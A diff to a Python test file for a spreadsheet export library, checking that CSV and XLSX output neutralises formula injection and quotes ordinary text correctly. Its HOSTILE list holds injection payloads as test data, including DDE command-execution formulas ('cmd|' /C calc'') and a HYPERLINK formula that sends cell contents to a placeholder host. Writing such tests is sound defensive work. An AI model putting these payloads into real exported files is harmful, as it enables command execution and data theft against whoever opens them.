@@ -15,7 +15,8 @@ from itguide.export import CUT, LONGEST, Table, as_csv, as_xlsx, counted, guarde
 from itguide.spec import Question
 
 HOSTILE = [
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "\x00=1+1",
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1",
+    "\x00=1+1",
     '=HYPERLINK("http://x.test?"&A1,"see")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\x0b=1", "'=1+1",
 ]  # fmt: skip
 PLAIN = ["Ordinary words.", 'He said "no", twice', "a;b,c\nsecond line", "año, ação, 关税", "100 % of = 5", "", "’tis"]
@@ -72,8 +73,7 @@ def test_ordinary_text_is_untouched_and_numbers_are_numbers() -> None:
     assert [guarded(t) for t in PLAIN] == PLAIN
     data = as_csv(table(*PLAIN))
     assert data.startswith(b"\xef\xbb\xbf")
-    assert b'"He said' not in data
-    assert b'"He said ""no"", twice"'[1:] in data  # RFC 4180: a quote within is doubled
+    assert b'"He said ""no"", twice"' in data  # RFC 4180: a quote within is doubled
     assert data.count(b"\r\n") == len(PLAIN) + 1
     assert b",-1.5\r\n" in data
     sheet = read_xlsx(as_xlsx([table(*PLAIN)]))
